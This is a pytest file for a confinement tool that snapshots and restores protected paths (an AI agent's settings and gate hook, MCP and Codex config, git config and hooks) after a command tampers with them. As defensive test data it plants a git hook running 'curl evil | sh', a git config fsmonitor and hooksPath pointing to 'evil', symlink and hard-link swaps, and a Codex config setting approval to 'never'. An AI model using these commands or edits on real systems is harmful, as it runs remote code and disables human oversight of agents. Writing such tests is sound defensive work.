"""Restoring protected paths, including against a command that plays tricks."""

from __future__ import annotations

import os
import signal
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from paw_tui.core.confine.drift import Drift, Snapshot, compare, restore, take_snapshot

SETTINGS = ".claude/settings.json"
ORIGINAL = b'{"hooks": {"PreToolUse": [{"command": "paw-tui gate"}]}}\n'


def restorable(path: str) -> bool:
    return path in {SETTINGS, ".mcp.json", ".git/config", ".codex"} or path.startswith(
        (".git/hooks/", ".codex/")
    )


def skip_dirs(path: str) -> bool:
    return path == ".git"


CALLABLES = {
    "in_scope": lambda path: path == "src" or path.startswith("src/"),
    "restorable": restorable,
    "skip_dirs": skip_dirs,
}


def write(root: str, rel: str, content: bytes = b"x\n") -> str:
    path = os.path.join(root, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as handle:
        handle.write(content)
    return path


def read(path: str) -> bytes:
    with open(path, "rb") as handle:
        return handle.read()


@pytest.fixture
def ws(tmp_path: Path) -> str:
    root = str(tmp_path / "ws")
    write(root, SETTINGS, ORIGINAL)
    os.chmod(os.path.join(root, SETTINGS), 0o640)
    os.utime(os.path.join(root, SETTINGS), ns=(1_600_000_000_000_000_000,) * 2)
    os.chmod(os.path.join(root, ".claude"), 0o750)
    write(root, ".git/config", b"[core]\n\tbare = false\n")
    write(root, ".git/hooks/pre-push.sample", b"#!/bin/sh\n")
    write(root, ".git/HEAD", b"ref: refs/heads/main\n")
    write(root, "src/app.py")
    write(root, "notes.txt")
    return root


@pytest.fixture
def outside(tmp_path: Path) -> str:
    path = str(tmp_path / "outside")
    os.makedirs(path)
    return path


STORE: list[str | None] = [None]
"""The content store the snapshots of the running test use (None: contents inline)."""


@pytest.fixture(autouse=True, params=["inline", "store"])
def content_store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[None]:
    """Every attack, with protected contents in the snapshot and in a content store."""
    STORE[0] = str(tmp_path / "state" / "store") if request.param == "store" else None
    yield
    STORE[0] = None


def snap(root: str, **extra: object) -> Snapshot:
    kwargs: dict[str, object] = {
        **CALLABLES,
        "pinned": (".git/config", ".git/hooks"),
        "store": STORE[0],
        **extra,
    }
    return take_snapshot(root, **kwargs)  # type: ignore[arg-type]


def drift_of(before: Snapshot, root: str) -> Drift:
    return compare(before, root, **CALLABLES)


def undo(before: Snapshot, root: str) -> tuple[Drift, list[str], list[tuple[str, str]]]:
    drift = drift_of(before, root)
    done = restore(before, drift, root)
    again = drift_of(before, root)
    assert not (again.protected - {path for path, _ in done.failed}), again
    return drift, done.restored, done.failed


def assert_original(root: str) -> None:
    path = os.path.join(root, SETTINGS)
    st = os.lstat(path)
    assert stat.S_ISREG(st.st_mode)
    assert read(path) == ORIGINAL
    assert stat.S_IMODE(st.st_mode) == 0o640
    assert st.st_mtime_ns == 1_600_000_000_000_000_000
    assert st.st_nlink == 1


@pytest.fixture
def no_hang() -> Iterator[None]:
    def hang(*_: object) -> None:
        raise AssertionError("blocked (a FIFO was opened?)")

    previous = signal.signal(signal.SIGALRM, hang)
    signal.alarm(10)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


def test_modified_is_restored_byte_identical_with_mode(ws: str) -> None:
    before = snap(ws)
    write(ws, SETTINGS, b'{"hooks": {}}\n')
    os.chmod(os.path.join(ws, SETTINGS), 0o666)
    drift, restored, failed = undo(before, ws)
    assert drift.modified == [SETTINGS] and drift.reasons[SETTINGS] == "mode, content"
    assert drift.protected == {SETTINGS}
    assert restored == [SETTINGS] and failed == []
    assert_original(ws)
    assert not [name for name in os.listdir(os.path.join(ws, ".claude")) if "paw-restore" in name]


def test_mode_only_is_restored(ws: str) -> None:
    before = snap(ws)
    os.chmod(os.path.join(ws, SETTINGS), 0o777)
    drift, restored, _ = undo(before, ws)
    assert drift.reasons[SETTINGS] == "mode"
    assert_original(ws)


def test_touched_but_identical_is_left_alone(ws: str) -> None:
    before = snap(ws)
    write(ws, SETTINGS, ORIGINAL)
    drift = drift_of(before, ws)
    assert SETTINGS not in drift.modified


def test_deleted_with_its_directory_is_recreated(ws: str) -> None:
    import shutil

    before = snap(ws)
    shutil.rmtree(os.path.join(ws, ".claude"))
    drift = drift_of(before, ws)
    assert drift.deleted == [".claude", SETTINGS] and drift.protected == {SETTINGS}
    done = restore(before, drift, ws)
    assert done.restored == [SETTINGS] and done.parents == [".claude"]
    assert stat.S_IMODE(os.stat(os.path.join(ws, ".claude")).st_mode) == 0o750
    assert_original(ws)


def test_created_hook_is_removed(ws: str) -> None:
    before = snap(ws)
    write(ws, ".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n")
    os.makedirs(os.path.join(ws, ".git/hooks/post-merge.d/x"))
    write(ws, ".git/objects/aa/bb")  # skipped: not reported, not touched
    drift, restored, failed = undo(before, ws)
    assert drift.created == [
        ".git/hooks/post-merge.d",
        ".git/hooks/post-merge.d/x",
        ".git/hooks/pre-commit",
    ]
    assert drift.protected == set(drift.created)
    assert failed == [] and sorted(restored) == drift.created
    assert sorted(os.listdir(os.path.join(ws, ".git/hooks"))) == ["pre-push.sample"]
    assert os.path.exists(os.path.join(ws, ".git/objects/aa/bb"))


def test_git_config_in_a_skipped_git_dir_is_restored(ws: str) -> None:
    before = snap(ws)
    write(ws, ".git/config", b'[core]\n\tfsmonitor = "sh -c evil"\n')
    write(ws, ".git/HEAD", b"ref: refs/heads/other\n")  # skipped: git's own business
    drift, restored, _ = undo(before, ws)
    assert drift.modified == [".git/config"] and restored == [".git/config"]
    assert read(os.path.join(ws, ".git/config")) == b"[core]\n\tbare = false\n"


def test_replaced_by_symlink_to_outside(ws: str, outside: str) -> None:
    target = write(outside, "victim.json", b"outside, do not touch\n")
    os.utime(target, ns=(1_500_000_000_000_000_000,) * 2)
    before = snap(ws)
    os.unlink(os.path.join(ws, SETTINGS))
    os.symlink(target, os.path.join(ws, SETTINGS))
    drift, restored, _ = undo(before, ws)
    assert drift.reasons[SETTINGS] == "type"
    assert_original(ws)
    assert read(target) == b"outside, do not touch\n"
    assert os.stat(target).st_mtime_ns == 1_500_000_000_000_000_000


def test_created_symlink_is_removed_not_followed(ws: str, outside: str) -> None:
    target = write(outside, "passwd", b"root:x:0:0\n")
    before = snap(ws)
    os.symlink(target, os.path.join(ws, ".mcp.json"))
    drift, restored, _ = undo(before, ws)
    assert drift.created == [".mcp.json"] and restored == [".mcp.json"]
    assert not os.path.lexists(os.path.join(ws, ".mcp.json"))
    assert read(target) == b"root:x:0:0\n"


def test_parent_replaced_by_symlink_to_outside(ws: str, outside: str) -> None:
    import shutil

    evil = write(outside, "claude/settings.json", b'{"hooks": "evil"}\n')
    before = snap(ws)
    shutil.rmtree(os.path.join(ws, ".claude"))
    os.symlink(os.path.dirname(evil), os.path.join(ws, ".claude"))
    drift = drift_of(before, ws)
    assert drift.reasons[".claude"] == "type" and drift.deleted == [SETTINGS]
    done = restore(before, drift, ws)
    assert done.restored == [SETTINGS] and done.parents == [".claude"]
    assert not os.path.islink(os.path.join(ws, ".claude"))
    assert_original(ws)
    assert read(evil) == b'{"hooks": "evil"}\n'


def test_parent_replaced_by_a_file_is_reported(ws: str) -> None:
    import shutil

    before = snap(ws)
    shutil.rmtree(os.path.join(ws, ".claude"))
    write(ws, ".claude", b"a file now\n")
    drift = drift_of(before, ws)
    done = restore(before, drift, ws)
    assert done.restored == []
    assert done.failed == [(SETTINGS, ".claude is not a directory")]
    assert read(os.path.join(ws, ".claude")) == b"a file now\n"


def test_replaced_by_hard_link_to_outside_file(ws: str, outside: str) -> None:
    foreign = write(outside, "foreign.json", b'{"hooks": "from outside"}\n')
    before = snap(ws)
    os.unlink(os.path.join(ws, SETTINGS))
    os.link(foreign, os.path.join(ws, SETTINGS))
    drift, restored, _ = undo(before, ws)
    assert drift.reasons[SETTINGS] == "mode, content, hard link"
    assert_original(ws)
    assert read(foreign) == b'{"hooks": "from outside"}\n'  # not written through the link
    assert os.stat(foreign).st_nlink == 1


def test_hard_link_made_from_outside_is_broken(ws: str, outside: str) -> None:
    alias = os.path.join(outside, "alias.json")
    before = snap(ws)
    os.link(os.path.join(ws, SETTINGS), alias)  # to edit the protected file later, unseen
    drift, restored, _ = undo(before, ws)
    assert drift.reasons[SETTINGS] == "hard link"
    assert_original(ws)
    with open(alias, "wb") as handle:
        handle.write(b"later edit\n")
    assert read(os.path.join(ws, SETTINGS)) == ORIGINAL


def test_fifo_planted_at_protected_path(ws: str, no_hang: None) -> None:
    before = snap(ws)
    os.unlink(os.path.join(ws, SETTINGS))
    os.mkfifo(os.path.join(ws, SETTINGS))
    drift, restored, _ = undo(before, ws)
    assert drift.reasons[SETTINGS] == "type" and restored == [SETTINGS]
    assert_original(ws)


def test_fifo_at_protected_path_before_the_command(ws: str, no_hang: None) -> None:
    os.mkfifo(os.path.join(ws, ".mcp.json"))
    before = snap(ws, racy_ns=10**18)
    os.unlink(os.path.join(ws, ".mcp.json"))
    drift = drift_of(before, ws)
    assert drift.deleted == [".mcp.json"]
    done = restore(before, drift, ws)
    assert done.failed == [(".mcp.json", "a special file (FIFO, socket, device) is not recreated")]


def test_replaced_by_directory(ws: str) -> None:
    before = snap(ws)
    os.unlink(os.path.join(ws, SETTINGS))
    write(ws, SETTINGS + "/inner", b"payload")
    drift, restored, _ = undo(before, ws)
    assert drift.reasons[SETTINGS] == "type"
    assert_original(ws)


def test_oversized_is_reported_not_restored(ws: str) -> None:
    write(ws, ".mcp.json", b"{" + b" " * 100 + b"}")
    before = snap(ws, max_restore_bytes=16)
    assert before.extras[".mcp.json"][2] == (
        "sha256:" + __import__("hashlib").sha256(b"{" + b" " * 100 + b"}").hexdigest()
    )
    write(ws, ".mcp.json", b"{" + b"!" * 100 + b"}")  # same size
    drift = drift_of(before, ws)
    assert drift.modified == [".mcp.json"] and drift.reasons[".mcp.json"] == "content"
    done = restore(before, drift, ws)
    assert done.restored == []
    assert done.failed == [
        (
            ".mcp.json",
            "larger than 16 bytes when the snapshot was taken: only its hash was kept",
        )
    ]
    assert read(os.path.join(ws, ".mcp.json")) == b"{" + b"!" * 100 + b"}"


def test_protected_symlink_is_restored_to_its_target(ws: str) -> None:
    os.symlink("shared/mcp.json", os.path.join(ws, ".mcp.json"))
    before = snap(ws)
    os.unlink(os.path.join(ws, ".mcp.json"))
    os.symlink("/tmp/evil.json", os.path.join(ws, ".mcp.json"))
    drift, restored, _ = undo(before, ws)
    assert drift.reasons[".mcp.json"] == "target" and restored == [".mcp.json"]
    assert os.readlink(os.path.join(ws, ".mcp.json")) == "shared/mcp.json"


def test_protected_directory_created_and_mode(ws: str) -> None:
    os.makedirs(os.path.join(ws, ".codex"), mode=0o700)
    os.chmod(os.path.join(ws, ".codex"), 0o700)
    before = snap(ws)
    os.chmod(os.path.join(ws, ".codex"), 0o777)
    write(ws, ".codex/config.toml", b"approval = 'never'\n")
    drift, restored, _ = undo(before, ws)
    assert drift.modified == [".codex"] and drift.created == [".codex/config.toml"]
    assert os.listdir(os.path.join(ws, ".codex")) == []
    assert stat.S_IMODE(os.stat(os.path.join(ws, ".codex")).st_mode) == 0o700


def test_only_protected_paths_are_touched(ws: str) -> None:
    before = snap(ws)
    write(ws, "notes.txt", b"changed\n")
    write(ws, "new.txt")
    write(ws, SETTINGS, b"{}\n")
    drift = drift_of(before, ws)
    done = restore(before, drift, ws)
    assert done.restored == [SETTINGS]
    assert read(os.path.join(ws, "notes.txt")) == b"changed\n"
    assert os.path.exists(os.path.join(ws, "new.txt"))
    assert drift_of(before, ws).paths() == ["new.txt", "notes.txt"]


def test_snapshot_with_foreign_paths_is_refused(ws: str) -> None:
    before = snap(ws)
    drift = Drift([], ["../escape"], [], {"../escape"}, {"../escape": "content"}, [])
    done = restore(before, drift, ws)
    assert done.failed == [("../escape", "not a valid relative path")]


def test_deep_created_directory(ws: str) -> None:
    before = snap(ws)
    os.makedirs(os.path.join(ws, ".codex", *["d"] * 40))
    write(ws, ".codex/" + "d/" * 40 + "evil", b"x")
    os.symlink("/", os.path.join(ws, ".codex/d/root-link"))  # removed, never followed
    os.makedirs(os.path.join(ws, ".git/hooks/deep", *["d"] * 300))
    drift = drift_of(before, ws)
    done = restore(before, drift, ws)
    assert not os.path.exists(os.path.join(ws, ".codex"))
    deep = [path for path in drift.created if path.startswith(".git/hooks/deep")]
    assert len(deep) == 301
    assert done.failed[0] == (".git/hooks/deep", "it is more than 256 directories deep")
    assert done.failed[1:] == [
        (path, "inside .git/hooks/deep, which could not be removed") for path in deep[1:]
    ]
    assert set(done.restored) == set(drift.created) - set(deep)


def test_whole_git_dir_removed(ws: str) -> None:
    import shutil

    before = snap(ws)
    shutil.rmtree(os.path.join(ws, ".git"))
    drift = drift_of(before, ws)
    assert drift.deleted == [".git", ".git/config", ".git/hooks", ".git/hooks/pre-push.sample"]
    assert drift.protected == {".git/config", ".git/hooks/pre-push.sample"}
    done = restore(before, drift, ws)
    assert done.parents == [".git", ".git/hooks"] and done.failed == []
    assert read(os.path.join(ws, ".git/config")) == b"[core]\n\tbare = false\n"
    assert read(os.path.join(ws, ".git/hooks/pre-push.sample")) == b"#!/bin/sh\n"
    assert drift_of(before, ws).paths() == []  # a directory counts by its type and mode


def test_git_dir_swapped_for_a_symlink(ws: str, outside: str) -> None:
    evil = write(outside, "git/config", b'[core]\n\thooksPath = "/tmp/evil"\n')
    before = snap(ws)
    os.rename(os.path.join(ws, ".git"), os.path.join(outside, "moved-git"))
    os.symlink(os.path.dirname(evil), os.path.join(ws, ".git"))
    drift = drift_of(before, ws)
    assert drift.reasons[".git"] == "type"
    assert {".git/config", ".git/hooks"} <= set(drift.deleted)  # not reached via the link
    done = restore(before, drift, ws)
    assert done.failed == [] and done.parents == [".git", ".git/hooks"]
    assert not os.path.islink(os.path.join(ws, ".git"))
    assert read(os.path.join(ws, ".git/config")) == b"[core]\n\tbare = false\n"
    assert read(evil) == b'[core]\n\thooksPath = "/tmp/evil"\n'


def test_failure_to_write_is_reported(ws: str, monkeypatch: pytest.MonkeyPatch) -> None:
    before = snap(ws)
    write(ws, SETTINGS, b"{}\n")
    drift = drift_of(before, ws)

    def refuse(*_: object, **__: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", refuse)
    done = restore(before, drift, ws)
    monkeypatch.undo()
    assert done.restored == []
    assert done.failed == [(SETTINGS, "cannot restore it: Permission denied")]
    assert os.listdir(os.path.join(ws, ".claude")) == ["settings.json"]  # no temporary left
